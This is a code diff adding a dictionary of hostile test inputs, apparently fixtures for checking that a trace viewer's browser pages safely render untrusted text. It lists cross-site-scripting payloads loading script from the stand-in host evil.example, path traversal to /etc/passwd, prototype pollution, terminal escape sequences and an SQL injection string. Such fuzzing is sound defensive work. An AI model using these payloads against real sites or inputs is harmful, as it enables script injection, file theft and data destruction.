@@ -7,7 +7,7 @@ from rewriting import Change, Step, bodies, copied, fields, mapped_json, results
 
 from ulterior.traces import Body, End, EpisodeSpec, Report, Study, Trace
 
-__all__ = ["PAYLOADS", "poisoned", "void"]
+__all__ = ["EVIL", "FOR_PAGES", "PAYLOADS", "poisoned", "void"]
 
 EVIL = "evil.example"
 """Stands in everything that would load or run something."""
@@ -71,6 +71,77 @@ _TO_JUDGES = {
 }
 
 PAYLOADS: dict[str, str] = {**_TAGS, **_MARKDOWN, **_TERMINAL, **_UNSEEN, **_TABLES, **_TO_JUDGES}
+
+_MARKUP = {
+    "details": f"<details open ontoggle=import('//{EVIL}')><summary>x</summary></details>",
+    "marquee": f"<marquee onstart=import('//{EVIL}')>x</marquee>",
+    "mathematics in markup": f'<math><mtext><table><mglyph><style><img src=x onerror="import(`//{EVIL}`)">',
+    "page within a page": f'<iframe srcdoc="<script src=//{EVIL}/x.js></script>"></iframe>',
+    "redirection": f'<meta http-equiv="refresh" content="0;url=https://{EVIL}">',
+    "object": f'<object data="https://{EVIL}/x.swf"><embed src="https://{EVIL}/x.swf"></object>',
+    "base": f'<base href="https://{EVIL}/">',
+    "style sheet": f'<style>@import url("https://{EVIL}/x.css"); * {{ display: none }}</style>',
+    "style attribute": f'<p style="background:url(https://{EVIL}/p.png);position:fixed;inset:0">x</p>',
+    "end of a declaration": f"red;background:url(//{EVIL})}}body{{display:none",
+    "address that runs": f"<a href=\"javascript:import('//{EVIL}')\">here</a>",
+    "address that runs, broken up": f"java\tscript:import('//{EVIL}')",
+    "address with data": f"data:text/html,<script src=//{EVIL}/x.js></script>",
+    "end of a script": f"</script><script src=//{EVIL}/x.js></script>",
+    "end of a comment": f"--!><img src=x onerror=import('//{EVIL}')>",
+    "script in a comment": f"<!--<script>import('//{EVIL}')",
+    "template element": f"<template shadowrootmode=open><img src=//{EVIL}/p.png></template>",
+    "clobbered names": "<form id=attributes><input name=innerHTML><img name=getElementById></form>",
+    "node of a library": '{"type":"img","props":{"src":"x","onerror":"alert(1)"},"key":null,"ref":null}',
+    "pieces of a template": "${alert(1)}`+alert(1)+`",
+}
+_NAMES = {
+    "prototype": "__proto__",
+    "constructor": "constructor",
+    "to string": "toString",
+    "own property": "hasOwnProperty",
+    "getter": "__defineGetter__",
+    "value of": "valueOf",
+    "polluted prototype": '{"__proto__":{"shown":true},"constructor":{"prototype":{"shown":true}}}',
+    "way up": "../../../../etc/passwd",
+    "way up, encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "way up, backslashes": "..\\..\\windows\\win.ini",
+    "file address": "file:///etc/passwd",
+    "cut off by NUL": "/etc/passwd\x00.png",
+    "device": "CON",
+    "file the wrong way round": "invoice_\u202efdp.exe",
+    "look-alike letters": "\u0430dmin@\u0435x\u0430mple",
+    "fragment and query": "a?b=c&d#e/f%2Fg",
+    "only a space": " ",
+    "only a dot": ".",
+}
+_LETTERS = {
+    "all controls": "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0)))),
+    "marks upon marks": "Z" + "\u0301\u0336\u20dd" * 700,
+    "family": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e007f",
+    "variation": "a\ufe0f\ufe0e\U000e0100",
+    "no characters": "\ufffe\uffff\U0001ffff",
+    "annotation": "a\ufff9b\ufffac\ufffb",
+    "isolates": "\u2066\u2067\u2068\u2069\u061c\u200e\u200f",
+    "Hangul fillers": "\u115f\u1160\u3164\uffa0",
+    "a half and its other half": "\ud83d",
+    "wide": "\ufdfd" * 50,
+    "device control": "\x1bP0;1|17/ab\x1b\\\x1b_G\x1b\\",
+    "question to the terminal": "\x1b[6n\x1b[c\x1b]11;?\x07",
+    "one long word": "w" * 15_000,
+}
+_NUMBERS = {
+    "infinite": "1e400",
+    "not a number": "NaN",
+    "minus nothing": "-0",
+    "beyond whole numbers": "9007199254740993",
+    "percent": "%s%n%x%d",
+    "plus": "+1+1",
+    "tab and formula": "\t=1+1",
+    "quotation": "'; DROP TABLE episodes; --",
+}
+
+FOR_PAGES: dict[str, str] = {**_MARKUP, **_NAMES, **_LETTERS, **_NUMBERS}
+"""More of them, that pages in a browser have to bear beside those in :data:`PAYLOADS`."""
 
 _SENTENCE_END = re.compile(r"(?=[.!?](?:\s|$))")
 
